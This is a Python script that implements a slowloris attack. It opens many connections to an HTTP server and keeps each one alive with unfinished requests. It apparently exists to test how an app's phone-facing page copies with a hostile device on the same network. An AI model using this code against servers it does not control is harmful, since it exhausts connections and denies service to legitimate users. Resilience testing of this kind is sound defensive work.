"""A device on the wifi holding connections open to the phones' page (slowloris), in a process of its own so its
sockets are not the app's: ``python hold_open.py HOST PORT PATH COUNT SECONDS``.

Opens COUNT connections, each sending the start of a request and then one more header line every half second,
never finishing it. Prints ``open N`` once they are opened, then each half second ``alive N`` (connections the
server has not closed), and ``done`` at the end."""

from __future__ import annotations

import resource
import socket
import sys
import time


def main() -> None:
    host, port, path, count, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), float(sys.argv[5])
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < count + 64:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, count + 64), hard))
    held: list[socket.socket] = []
    failed = 0
    for _ in range(count):
        try:
            sock = socket.create_connection((host, port), timeout=0.5)
            sock.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}\r\n".encode())
        except OSError:  # turned away, or not accepted at all (the server out of files): not held
            failed += 1
            if failed > 20:
                break
            continue
        sock.setblocking(False)
        held.append(sock)
    print(f"open {len(held)}", flush=True)
    started = time.monotonic()
    while time.monotonic() - started < seconds:
        alive = 0
        for sock in held:
            if sock.fileno() < 0:
                continue
            try:
                if sock.recv(4096) == b"":  # the server closed it (or answered and closed: read it next time)
                    sock.close()
                    continue
            except BlockingIOError:
                pass
            except OSError:
                sock.close()
                continue
            try:
                sock.send(b"X-a: b\r\n")
                alive += 1
            except OSError:
                sock.close()
        print(f"alive {alive}", flush=True)
        time.sleep(0.5)
    for sock in held:
        sock.close()
    print("done", flush=True)


if __name__ == "__main__":
    main()
